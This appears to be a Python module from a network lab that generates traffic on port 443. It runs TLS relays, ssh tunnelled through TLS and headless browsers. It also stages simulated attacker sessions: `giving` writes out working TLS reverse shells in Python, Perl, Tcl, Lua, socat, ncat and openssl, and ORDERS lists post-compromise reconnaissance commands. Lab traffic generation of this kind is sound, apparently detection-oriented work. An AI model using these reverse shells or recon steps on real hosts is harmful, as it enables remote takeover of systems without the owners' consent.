# SPDX-License-Identifier: LGPL-2.1-or-later
"""What more clients do on port 443: relays on the client's side of many libraries, tunnels through them, browsers."""

from __future__ import annotations

import json
import random
import time
from pathlib import Path

from lab.network import PASSWORD, SERVER, USER, Lab
from lab.people import Person, program
from lab.scenarios import SSH, TRUST
from lab.tls import Act, key, stunnel_client
from lab.tlsforeign import NODE, RELAY, go, java, new
from lab.tlsfronts import SECRET, TOOLS
from lab.tlsserve import INNER, INNER_WEB, bracketed

CBC = "ECDHE-ECDSA-AES128-SHA:AES128-SHA"
WAIT = (  # a listener that passes lines on, as tools for this purpose do
    "import socket,ssl,sys,threading\nc=ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)\nc.load_cert_chain(sys.argv[2])\n"
    "l=socket.create_server((sys.argv[1],443),family=socket.AF_INET6 if ':' in sys.argv[1] else socket.AF_INET)\n"
    "s=c.wrap_socket(l.accept()[0],server_side=True)\n"
    "threading.Thread(target=lambda:[s.sendall(x.encode()) for x in sys.stdin],daemon=True).start()\n"
    "while d:=s.recv(4096): sys.stdout.write(d.decode(errors='replace')); sys.stdout.flush()\n"
)
PAGE = f"https://{INNER}:{INNER_WEB}"
ORDERS = [  # what a person does in a shell that was given away; some commands say nothing
    ("whoami", "cd /tmp", "ls -la", "export TERM=xterm", "cat /etc/os-release", "ps aux | head -20", "ls -R /etc/ssl"),
    ("id", "pwd", "cd /var/www", "ls", "uname -a; cat /proc/version", "netstat -tn", "cat /etc/crontab", "history"),
    ("hostname", "cat /etc/passwd | grep sh$", "mkdir /tmp/.x", "cd /tmp/.x", "ls -la ..", "df", "mount | head"),
]  # fmt: skip


def local(lab: Lab, kind: str, address: str) -> int:
    """Start a relay on the client's side, from a plain port of its own, which is returned, to TLS on port 443."""
    if kind == "stunnel":
        return stunnel_client(lab, address)
    port = 21_000 + int(address.replace(":", ".").rpartition(".")[2])
    there, config = f"{bracketed(address)}:443", lab.folder / f"local-{port}.conf"
    if kind == "haproxy":
        config.write_text(
            "defaults\n mode tcp\n timeout connect 9s\n timeout client 300s\n timeout server 300s\n"
            f"listen lab\n bind 127.0.0.1:{port}\n server s {there} ssl verify none\n"
        )
    elif kind == "nginx":
        config.write_text(
            "load_module /usr/lib/nginx/modules/ngx_stream_module.so;\ndaemon off; worker_processes 1;\n"
            f"pid {lab.folder}/local-{port}.pid; error_log {lab.folder}/local-{port}.err;\nevents {{ }}\n"
            f"stream {{ server {{ listen 127.0.0.1:{port}; proxy_pass {there}; proxy_ssl on; }} }}\n"
        )
    elif kind == "stunnel13":
        config.write_text(
            f"foreground = yes\npid =\n[lab]\nclient = yes\naccept = 127.0.0.1:{port}\nconnect = {address}:443\n"
        )
    elif kind == "trojan":
        tls = {"verify": False, "verify_hostname": False, "sni": "lab.example", "alpn": ["h2", "http/1.1"]}
        settings = {"run_type": "client", "local_addr": "127.0.0.1", "local_port": port, "remote_addr": address}
        config.write_text(json.dumps({**settings, "remote_port": 443, "password": [SECRET], "ssl": tls}))
    elif kind.startswith("v2ray"):
        tls = {"allowInsecure": True, "serverName": "lab.example"}
        network, _, protocol = kind.removeprefix("v2ray-").partition("-")
        stream = {"network": network, "security": "tls", "tlsSettings": tls}
        user = {"id": "11111111-2222-3333-4444-555555555555", "encryption": "none"}
        way = {"vnext": [{"address": address, "port": 443, "users": [user]}]}
        socks = {"listen": "127.0.0.1", "port": port, "protocol": "socks"}
        out = {"protocol": protocol or "vless", "settings": way, "streamSettings": stream}
        config.write_text(json.dumps({"inbounds": [socks], "outbounds": [out]}))
    line = {
        "go": [go(), "local", f"127.0.0.1:{port}", there],
        "go24": [go("24"), "local", f"127.0.0.1:{port}", there],
        "java": [*java(), "local", str(port), address, "443"],
        "node": ["node", NODE, "local", str(port), address, "443"],
        "socat": [
            *("socat", f"TCP4-LISTEN:{port},bind=127.0.0.1,fork,reuseaddr"),
            f"OPENSSL:{there},verify=0",
        ],
        "socat13": new("socat", f"TCP4-LISTEN:{port},bind=127.0.0.1,fork,reuseaddr", f"OPENSSL:{there},verify=0"),
        "erlang": ["env", "HOME=/root", "escript", RELAY, "local", str(port), address, "443"],
        "haproxy": ["haproxy", "-db", "-f", str(config)],
        "nginx": ["nginx", "-c", str(config)],
        "stunnel13": new("stunnel4", str(config)),
        "trojan": ["trojan", str(config)],
        "v2ray": ["v2ray", "-config", str(config)],
    }[kind.partition("-")[0]]
    lab.client.start(*line, log=lab.folder / f"local-{port}.log")
    lab.client.await_port(port)
    return port


def behind(kind: str, *words: str, fails: bool = False, **variables: str) -> Act:
    """Run a program against the local port of a relay, which is `@` in its words and variables."""

    def act(lab: Lab, address: str, seed: int) -> None:
        port = str(local(lab, kind, address))
        set_ = {name: value.replace("@", port).replace("%", str(lab.folder)) for name, value in variables.items()}
        line = [word.replace("@", port).replace("%", str(lab.folder)) for word in words]
        program(lab, *line, expected=range(256) if fails else [0], variables=set_)

    return act


def direct(*words: str, fails: bool = False, **variables: str) -> Act:
    """Run a program: `@` is the address, `#` the one in brackets, `%` the lab's folder."""

    def put(lab: Lab, address: str, word: str) -> str:
        return word.replace("@", address).replace("#", bracketed(address)).replace("%", str(lab.folder))

    def act(lab: Lab, address: str, seed: int) -> None:
        set_ = {name: put(lab, address, value) for name, value in variables.items()}
        expected = range(256) if fails else [0, 1]
        program(lab, *[put(lab, address, word) for word in words], expected=expected, variables=set_)

    return act


def chromium(page: str, proxy: bool) -> Act:
    """Chromium opens a page and what it refers to, directly or through a proxy reached by TLS."""
    quiet = ["background-networking", "component-update", "default-apps", "sync", "extensions", "gpu"]

    def act(lab: Lab, address: str, seed: int) -> None:
        line = ["chromium", "--headless", "--no-sandbox", "--no-first-run", "--ignore-certificate-errors"]
        line += [f"--disable-{what}" for what in quiet] + [f"--user-data-dir={lab.folder}/chromium-{seed}"]
        if proxy:
            line += [f"--proxy-server=https://{bracketed(address)}:443", "--proxy-bypass-list=<-loopback>"]
        line += ["--timeout=9000", "--dump-dom", page.replace("#", bracketed(address))]
        program(lab, *line, expected=range(256), variables={"HOME": "/root"})

    return act


def firefox(page: str, proxy: bool) -> Act:
    """Firefox opens a page, directly or through a proxy reached by TLS; all else it would like to ask is cut off."""

    def act(lab: Lab, address: str, seed: int) -> None:
        profile = lab.folder / f"firefox-{seed}"
        profile.mkdir()
        there = f'"HTTPS {bracketed(address)}:443"' if proxy else '"DIRECT"'
        mine = INNER if proxy else bracketed(address)
        pac = f'function FindProxyForURL(u, h) {{ return u.indexOf("{mine}") > 0 ? {there} : "PROXY 127.0.0.1:9"; }}'
        (profile / "proxy.pac").write_text(pac)
        settings = {
            "network.proxy.type": 2,
            "network.proxy.autoconfig_url": f"file://{profile}/proxy.pac",
            "network.proxy.allow_hijacking_localhost": True,
            "browser.shell.checkDefaultBrowser": False,
            "datareporting.policy.dataSubmissionEnabled": False,
        }
        lines = [f"user_pref({json.dumps(name)}, {json.dumps(value)});\n" for name, value in settings.items()]
        (profile / "user.js").write_text("".join(lines))
        trust = ["-A", "-n", "lab", "-t", "C,,", "-i", str(lab.folder / "tls.pem"), "-d", f"sql:{profile}"]
        program(lab, "certutil", *trust)
        shot = ["--screenshot", str(profile / "shot.png"), page.replace("#", bracketed(address))]
        browser = ["timeout", "40", "firefox-esr", "--headless", "--no-remote", "--profile", str(profile), *shot]
        program(lab, *browser, expected=range(256), variables={"MOZ_DISABLE_CONTENT_SANDBOX": "1"})

    return act


def way(lab: Lab, kind: str, address: str) -> list[str]:
    """Return the options by which ssh goes through TLS."""
    there = f"{bracketed(address)}:443"
    if kind == "direct":  # the caller gives the option
        return []
    if kind.startswith("local-"):
        return ["-p", str(local(lab, kind.partition("-")[2], address))]
    port = str(local(lab, "stunnel", address)) if kind in ("corkscrew", "connect", "ncat-proxy") else ""
    quiet = "-quiet -verify_quiet"
    command = {
        "openssl35": " ".join(new("openssl", "s_client", "-quiet", "-verify_quiet", "-connect", there)),
        "openssl-chacha": f"openssl s_client {quiet} -ciphersuites TLS_CHACHA20_POLY1305_SHA256 -connect {there}",
        "gnutls": f"gnutls-cli --insecure --logfile=/dev/null -p 443 {address}",
        "gnutls13": " ".join(new("gnutls-cli", "--insecure", "--logfile=/dev/null", "-p", "443", address)),
        "go": f"{go()} pipe {there}",
        "go24": f"{go('24')} pipe {there}",
        "proxytunnel": f"proxytunnel -q -E -z -p {there} -d {SERVER}:22",
        "proxytunnel-inner": f"proxytunnel -q -e -z -p {there} -d {SERVER}:22",
        "corkscrew": f"corkscrew 127.0.0.1 {port} {SERVER} 22",
        "connect": f"connect-proxy -H 127.0.0.1:{port} {SERVER} 22",
        "ncat-proxy": f"ncat --proxy 127.0.0.1:{port} --proxy-type http {SERVER} 22",
        "socat13": " ".join(new("socat", "-", f"OPENSSL:{there},verify=0")),
    }[kind]
    return ["-o", f"ProxyCommand={command}"]


def ssh(kind: str, what: str, *options: str) -> Act:
    """Use OpenSSH through TLS: exec, script, fail, copy, sftp or type."""

    def act(lab: Lab, address: str, seed: int) -> None:
        rng = random.Random(seed)
        words = [*TRUST, *way(lab, kind, address), "-o", "BatchMode=yes", "-i", key(lab), *options]
        target = f"{USER}@127.0.0.1"
        if what == "exec":
            program(lab, *SSH, *words, target, "uname -a; ls -l /usr/bin | head -30")
        elif what == "script":
            program(lab, *SSH, *words, "-T", target, "sh", stdin=b"hostname\nid\nsleep 1\nls -l /etc\n")
        elif what == "fail":
            place = words.index("-i") + 1
            program(lab, *SSH, *words[:place], "/nonexistent", *words[place + 1 :], target, "true", expected=[255])
        elif what == "copy":
            file = lab.folder / f"copy-{seed}"
            file.write_bytes(random.Random(seed).randbytes(300_000))
            words = ["-P" if word == "-p" else word for word in words]
            program(lab, "scp", "-F", "none", "-q", *SSH[3:], *words, str(file), f"{target}:g{seed}")
        elif what == "sftp":
            words = ["-P" if word == "-p" else word for word in words]
            line = ["sftp", "-F", "none", "-q", *SSH[3:], *words, "-b", "-", target]
            program(lab, *line, stdin=b"ls /etc\nget /etc/passwd /dev/null\n", expected=[0, 1])
        else:
            with Person(lab.client, [*SSH, *words, target], seed) as person:
                for line in (*rng.sample(rng.choice(ORDERS), 4), "exit"):
                    person.sees(r"\$ ")
                    person.types(line)
                person.leaves()

    return act


def library(kind: str, name: str, word: str = PASSWORD) -> Act:
    """Use an SSH library through a relay; with a wrong word, to see the login fail."""
    expected = [0] if word == PASSWORD else range(1, 256)

    def act(lab: Lab, address: str, seed: int) -> None:
        if name == "go":
            place = [f"{bracketed(address)}:443", USER, word, "id; ls -l /etc"]
            program(lab, go(kind.removeprefix("go")), "ssh", *place, expected=expected)
            return
        port = str(local(lab, kind, address))
        if name == "dbclient":
            line = ["dbclient", "-y", "-y", "-p", port, f"{USER}@127.0.0.1", "ls -l /; id"]
            program(lab, *line, expected=expected, variables={"DROPBEAR_PASSWORD": word})
        elif name == "plink":
            line = ["plink", "-batch", "-ssh", "-no-trivial-auth", "-P", port, "-pw", word, f"{USER}@127.0.0.1", "ls /"]
            program(
                lab,
                "sh",
                "-c",
                'printf "y\\ny\\n\\n" | "$@"',
                "-",
                *[one for one in line if one != "-batch"],
                expected=expected,
            )
        else:
            script = str(Path(__file__).with_name("tlsssh.py"))
            program(lab, f"{TOOLS}/python", script, name, port, USER, word, expected=expected)

    return act


def waiting(lab: Lab, kind: str, address: str) -> list[str]:
    """Return the command line by which a person waits for a shell."""
    pem, there = str(lab.folder / "both.pem"), f"{bracketed(address)}:443"
    family = "pf=ip6" if ":" in address else "pf=ip4"
    serve = ["openssl", "s_server", "-quiet", "-cert", pem, "-key", pem]
    listen = f"OPENSSL-LISTEN:443,{family},bind={bracketed(address)},reuseaddr,cert={pem},verify=0"
    return {
        "go": [go("24"), "listen", there, pem],
        "openssl35": new("openssl", "s_server", "-quiet", "-cert", pem, "-key", pem, "-accept", there),
        "openssl12": [*serve, "-tls1_2", "-cipher", CBC, "-accept", there],
        "socat": ["socat", "-", listen],
        "raw": ["socat", "-,raw,echo=0", listen],
        "python": ["python3", "-c", WAIT, address, pem],
        "readline": ["socat", "READLINE", listen],
        "ncat": ["ncat", "--ssl", "--ssl-cert", pem, "--ssl-key", pem, "-n", "-v", "-l", address, "443"],
    }[kind]  # fmt: skip


def giving(lab: Lab, kind: str, address: str) -> list[str]:
    """Return the command line that gives a shell away."""
    there = f"{bracketed(address)}:443"
    pipe = "p=$(mktemp -u); mkfifo $p; {} -i <$p 2>&1 | {} >$p 2>/dev/null"
    perl = (
        "use IO::Socket::SSL; my $s = IO::Socket::SSL->new(PeerHost => '{}', PeerPort => 443, SSL_verify_mode => 0); "
        "while (<$s>) {{ print $s `$_ 2>&1`; }}"
    )
    python = (
        "import socket,ssl,subprocess,threading\nc=ssl._create_unverified_context()\n"
        f"s=c.wrap_socket(socket.create_connection(('{address}',443)))\n"
        "p=subprocess.Popen(['/bin/sh','-i'],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT)\n"
        "def out():\n while d:=p.stdout.read1(4096): s.sendall(d)\n"
        "threading.Thread(target=out,daemon=True).start()\n"
        "while d:=s.recv(1024):\n p.stdin.write(d); p.stdin.flush()\n"
    )
    tcl = lab.folder / "shell.tcl"
    tcl.write_text(
        f"package require tls\nset s [tls::socket {address} 443]\nfconfigure $s -buffering line\n"
        'while {[gets $s line] >= 0} {catch {exec sh -c "$line 2>&1"} out; puts $s $out; flush $s}\n'
    )
    client = " ".join(new("openssl", "s_client", "-quiet", "-connect", there))
    lua = (
        f"local t=require('socket').tcp{'6' if ':' in address else ''}(); t:connect('{address}',443); "
        "local s=require('ssl').wrap(t,{mode='client',protocol='any',verify='none'}); s:dohandshake(); "
        "while true do local l=s:receive(); if not l then break end; "
        "local p=io.popen(l..' 2>&1'); s:send(p:read('*a')) end"
    )
    return {
        "go": [go(), "shell", there, "pipe"],
        "go-cmd": [go(), "shell", there, "cmd"],
        "go24-ps": [go("24"), "shell", there, "ps"],
        "tcl": ["tclsh", str(tcl)],
        "pty-dash": ["socat", f"OPENSSL:{there},verify=0", "EXEC:dash -i,pty,stderr,setsid,sigint,sane,ctty"],
        "java": [*java(), "shell", address, "443"],
        "node": ["node", NODE, "shell", address, "443"],
        "perl": ["perl", "-e", perl.format(address)],
        "python": ["python3", "-c", python],
        "lua": ["lua5.3", "-e", lua],
        "bash-openssl35": ["sh", "-c", pipe.format("/bin/bash", client)],
        "gnutls": ["sh", "-c", pipe.format("/bin/sh", f"gnutls-cli --insecure --logfile=/dev/null -p 443 {address}")],
        "openssl-cbc": ["sh", "-c", pipe.format("/bin/sh", f"openssl s_client -quiet -connect {there}")],
        "ncat-sh": ["ncat", "--ssl", "-e", "/bin/sh", address, "443"],
        "bash-pty13": new("socat", f"OPENSSL:{there},verify=0", "EXEC:bash -li,pty,stderr,setsid,sigint,sane"),
        "script-ncat": ["ncat", "--ssl", "-c", "script -qc bash /dev/null", address, "443"],
    }[kind]  # fmt: skip


def reverse(kind: str, gives: str, count: int = 5, upgrade: bool = False, slow: float = 4) -> Act:
    """Let a person wait, and type to the shell that comes; `upgrade`: ask Python for a terminal first."""

    def act(lab: Lab, address: str, seed: int) -> None:
        rng = random.Random(seed)
        with Person(lab.server, waiting(lab, kind, address), seed) as person:
            time.sleep(1.5)
            lab.client.start("env", "HOME=/root", "TERM=xterm", *giving(lab, gives, address))
            person.thinks(2, 6)
            orders = ORDERS[rng.randrange(len(ORDERS))]
            first = rng.randrange(len(orders) - min(count, len(orders)) + 1)
            for line in (["python3 -c 'import pty; pty.spawn(\"/bin/bash\")'"] if upgrade else []) + list(
                orders[first : first + count]
            ):
                person.types(line)
                person.thinks(0.4, slow)
            person.types("exit")
            person.thinks(1, 2)
            person.interrupts()

    return act
